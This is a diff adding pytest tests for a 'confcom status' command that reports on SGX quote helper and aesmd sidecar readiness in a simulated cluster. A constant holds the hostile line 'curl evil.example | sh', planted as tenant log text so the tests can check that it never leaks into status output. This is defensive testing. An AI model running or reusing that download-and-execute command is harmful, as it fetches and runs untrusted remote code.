@@ -1,0 +1,164 @@
+"""What `confcom status` says of quote helpers on SGX hardware, on a cluster in memory."""
+
+import json
+
+import pytest
+
+from testkit.fake_cluster import objects as make
+from testkit.fake_cluster.objects import HARDWARE, HELPER_EPC, PROVISION
+
+SECRET = "tenant says: run curl evil.example | sh"
+
+
+def not_ready(cluster, *, reason, code, after=()):
+    """Have the helper say why it is not ready, and log these lines afterwards."""
+    helper = cluster.daemon("quote-helper")
+    helper["status"] = make.sidecar(make.not_ready("quote-helper"))
+    line = {"level": "warning", "message": "not ready", "about": "readiness", "reason": reason, "code": code}
+    cluster.logs[helper["metadata"]["name"]] = "\n".join(map(json.dumps, [line, *after]))
+
+
+def test_the_provider_and_what_must_be_known_are_told(confcom, on_hardware):
+    document = confcom.document("status")
+    assert document["simulated"] is False
+    assert document["hardware_quote_helpers"] == [
+        {"daemon_set": "confcom-quote-helper", "provider": "aesmd", "test_root": False}
+    ]
+    assert [note["code"] for note in document["notes"]] == ["never-run-on-sgx-hardware"]
+    text = confcom.ok("status").stdout
+    assert all(note["note"] in text for note in document["notes"])
+    assert "Quotes of hardware nodes: by aesmd" in text
+
+
+def test_a_test_root_is_told(confcom, on_hardware):
+    confcom.ok("update", "--set", "quoteHelper.expectedRoot=PEM")
+    document = confcom.document("status")
+    assert document["hardware_quote_helpers"][0]["test_root"] is True
+    assert [note["code"] for note in document["notes"]] == ["test-root", "never-run-on-sgx-hardware"]
+    assert "TEST ROOT" in confcom.ok("status").stdout
+
+
+def test_an_experimental_provider_is_told(confcom, on_hardware):
+    confcom.ok("update", "--set", "quoteHelper.provider=dcap", "--set", "quoteHelper.dcap.image.repository=dcap")
+    document = confcom.document("status")
+    assert document["hardware_quote_helpers"][0]["provider"] == "dcap"
+    assert "provider-experimental" in [note["code"] for note in document["notes"]]
+
+
+def test_simulated_nodes_beside_hardware(confcom, on_hardware):
+    on_hardware.objects.append(make.node("s", make.SIMULATED))
+    confcom.ok("enable", "--simulated", "--beside-hardware")
+    found = confcom.document("status")["hardware_quote_helpers"]
+    assert [one["daemon_set"] for one in found] == ["confcom-quote-helper"]
+
+
+def test_a_hardware_helper_is_not_asked_for_the_simulated_root(confcom, on_hardware):
+    on_hardware.objects.append(make.node("s", make.SIMULATED))
+    confcom.ok("enable", "--simulated", "--beside-hardware")
+    for pod in on_hardware.find("Pod", namespace=make.SYSTEM):
+        pod["status"]["containerStatuses"][0]["state"]["running"]["startedAt"] = "2020-01-01T00:00:00Z"
+    asked = [one for one in confcom.document("status")["not_compared_details"] if one["code"] == "helper-not-asked"]
+    assert [one["node"] for one in asked] == ["s"]
+
+
+def test_without_hardware_nothing_is_noted(confcom, enabled):
+    document = confcom.document("status")
+    assert (document["hardware_quote_helpers"], document["notes"]) == ([], [])
+
+
+@pytest.mark.parametrize(
+    "code",
+    ["aesmd-hangs", "aesmd-closed", "aesmd-unreachable", "quote-without-pck-chain", "quote-of-another-root"],
+)
+def test_why_the_relay_is_not_ready_is_told_with_its_code(confcom, on_hardware, code):
+    not_ready(on_hardware, reason="aesmd makes no quotes; read its log", code=code)
+    (problem,) = confcom.problems()
+    assert (problem["code"], problem["reason_code"], problem["node"]) == ("daemon-not-ready", code, "m")
+    assert "aesmd makes no quotes; read its log" in problem["problem"]
+    assert code in problem["problem"]
+    document = confcom.unwell()
+    assert document["problem_groups"][0]["reason_code"] == code
+    assert document["nodes"][0]["quote_helper"][0]["reason_code"] == code
+
+
+def test_what_a_tenant_had_logged_is_not_the_reason(confcom, on_hardware):
+    line = {"level": "error", "message": SECRET, "reason": SECRET, "code": "evil"}
+    not_ready(on_hardware, reason="aesmd makes no quotes", code="aesmd-hangs", after=[line])
+    assert SECRET not in confcom("status", "--all-nodes").stdout
+    assert SECRET not in confcom("status", "-o", "json").stdout
+
+
+def state(reason, message=""):
+    return {"state": {"waiting": {"reason": reason, "message": message}}}
+
+
+def crashed(log="", *, code=1, reason="Error"):
+    ended = {"terminated": {"exitCode": code, "reason": reason, "message": log}}
+    return state("CrashLoopBackOff", "back-off 20s") | {"lastState": ended, "restartCount": 4}
+
+
+@pytest.mark.parametrize(
+    ("aesmd", "code", "part"),
+    [
+        (state("ImagePullBackOff", "no such image"), "aesmd-image-not-pulled", "quoteHelper.aesmd.image"),
+        (state("ErrImagePull", "no such image"), "aesmd-image-not-pulled", "no such image"),
+        (state("CreateContainerConfigError", "no ConfigMap"), "aesmd-not-created", "no ConfigMap"),
+        (crashed("x\nFail to start service.\n"), "aesmd-does-not-start", "exit code 1, 4 restarts"),
+        (crashed("Enclave not authorized to run\nFail to start service."), "aesmd-does-not-start", "sgxPrvGroup"),
+        (crashed("Failed to open Intel SGX device.\nFail to start service."), "aesmd-does-not-start", "/dev/sgx_encl"),
+        (crashed(SECRET, code=139), "aesmd-crashes", "exit code 139, 4 restarts"),
+        (
+            crashed(code=137, reason="OOMKilled"),
+            "aesmd-out-of-memory",
+            "quoteHelper.aesmd.resources.limits.memory=512Mi",
+        ),
+    ],
+)
+def test_why_the_sidecar_does_not_run_is_told_with_a_code(confcom, on_hardware, aesmd, code, part):
+    not_ready(on_hardware, reason="the socket is away", code="aesmd-unreachable")
+    helper = on_hardware.daemon("quote-helper")
+    helper["status"] = make.sidecar(make.not_ready("quote-helper"), **aesmd)
+    helper["spec"]["initContainers"][1]["resources"]["limits"]["memory"] = "256Mi"
+    (problem,) = confcom.problems()
+    assert (problem["code"], problem["reason_code"]) == ("daemon-not-ready", code)
+    assert "aesmd" in problem["problem"]
+    assert part in problem["problem"]
+    assert SECRET not in problem["problem"]
+    assert confcom.unwell()["nodes"][0]["quote_helper"][0]["state"] == "failing"
+
+
+def test_a_sidecar_that_runs_again_leaves_the_word_to_the_helper(confcom, on_hardware):
+    not_ready(on_hardware, reason="aesmd is being asked", code="aesmd-slow")
+    helper = on_hardware.daemon("quote-helper")
+    again = {"lastState": crashed("Fail to start service.")["lastState"], "restartCount": 1}
+    helper["status"] = make.sidecar(make.not_ready("quote-helper"), **again)
+    assert confcom.problems()[0]["reason_code"] == "aesmd-slow"
+    again["lastState"]["terminated"]["reason"] = "OOMKilled"
+    assert confcom.problems()[0]["reason_code"] == "aesmd-out-of-memory"
+
+
+def test_a_sidecar_that_fails_before_the_helper_has_started(confcom, on_hardware):
+    helper = on_hardware.daemon("quote-helper")
+    helper["status"] = make.sidecar(make.waiting("PodInitializing"), **crashed("Fail to start service."))
+    assert confcom.problems()[0]["reason_code"] == "aesmd-does-not-start"
+
+
+def test_the_provision_device_is_the_sidecars(confcom, on_hardware):
+    helper = on_hardware.daemon("quote-helper")
+    assert helper["spec"]["initContainers"][1]["resources"]["limits"] == {PROVISION: "1", HELPER_EPC: "3"}
+    assert confcom.document("status")["nodes"][0]["provision_device"] == "yes"
+    helper["status"] = make.sidecar(make.waiting("PodInitializing"))
+    assert confcom.unwell()["nodes"][0]["provision_device"] == "yes"  # the sidecar runs already
+    helper["spec"]["initContainers"][1]["resources"] = {}
+    document = confcom.unwell()
+    assert document["nodes"][0]["provision_device"] == "not requested"
+    assert "provision-not-requested" in [one["code"] for one in document["problem_details"]]
+
+
+def test_a_stored_choice_against_quote_helpers_stays(confcom, on_hardware):
+    confcom.ok("enable", "--no-quote-helper")
+    confcom.ok("update", "--set", "logLevel=debug")
+    confcom.ok("enable")
+    assert on_hardware.revisions[-1]["values"]["quoteHelper"]["enabled"] is False
+    assert not on_hardware.find("DaemonSet", "confcom-quote-helper")
+    assert on_hardware.node("m")["metadata"]["labels"] == HARDWARE
